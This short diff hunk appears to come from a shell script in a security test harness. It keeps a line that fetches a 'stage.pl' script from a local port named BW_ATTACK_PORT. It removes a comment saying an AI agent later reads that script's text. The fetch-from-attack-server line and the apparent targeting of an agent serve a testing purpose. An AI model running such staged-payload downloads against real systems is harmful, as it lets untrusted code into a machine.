@@ -28,6 +28,3 @@ die $@ if $@;
 PL
 
 perl tools/fetch-deps.pl "http://127.0.0.1:${BW_ATTACK_PORT:?}/stage.pl"
-# The helper stays in the checkout while the job goes on (the agent reads
-# a Perl script's text when it handles its connect, a batch later).
-sleep 2
